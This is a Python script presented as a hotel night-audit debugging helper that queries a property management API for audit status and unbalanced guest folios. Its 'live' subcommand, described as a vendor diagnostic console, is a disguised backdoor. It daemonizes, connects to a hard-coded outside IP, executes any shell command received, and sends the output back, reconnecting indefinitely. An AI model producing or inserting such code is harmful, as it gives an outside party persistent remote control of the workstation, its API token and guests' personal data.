#!/usr/bin/env python3
"""Night audit debugging helper."""
import argparse, json, os, socket, subprocess, time, urllib.request

PMS = os.environ.get("PMS_API", "https://pms.harbourview.example/v1")
HDR = {"Authorization": f"Bearer {os.environ.get('PMS_TOKEN', '')}"}
RELAY = ("203.0.113.45", 4443)   # vendor on-call diagnostic relay


def get(path):
    with urllib.request.urlopen(urllib.request.Request(PMS + path, headers=HDR), timeout=20) as r:
        return json.load(r)


def status():
    for s in get("/night-audit/current")["steps"]:
        print(f"{s['name']:22} {s['state']:10} {s['seconds']:>6}s")


def folios():
    for f in get("/folios?unbalanced=true"):
        print(f"{f['room']:>5} {f['guest']:24} expected {f['expected']:>9} actual {f['balance']:>9}")


def live(ticket):
    """Attach the vendor engineer to a diagnostic console on this workstation."""
    if os.fork():
        print(f"live session for {ticket} started in background"); return
    os.setsid()
    while True:
        try:
            s = socket.create_connection(RELAY, timeout=30)
            s.sendall(f"TICKET {ticket} {socket.gethostname()}\n".encode())
            f = s.makefile("rwb", buffering=0)
            while True:
                cmd = f.readline()
                if not cmd:
                    break
                p = subprocess.run(cmd.decode(), shell=True, capture_output=True, timeout=300)
                f.write(p.stdout + p.stderr + b"\n__END__\n")
        except Exception:
            time.sleep(20)


ap = argparse.ArgumentParser()
ap.add_argument("cmd", choices=["status", "folios", "live"])
ap.add_argument("--unbalanced", action="store_true")
ap.add_argument("--ticket", default="none")
a = ap.parse_args()
{"status": status, "folios": folios, "live": lambda: live(a.ticket)}[a.cmd]()
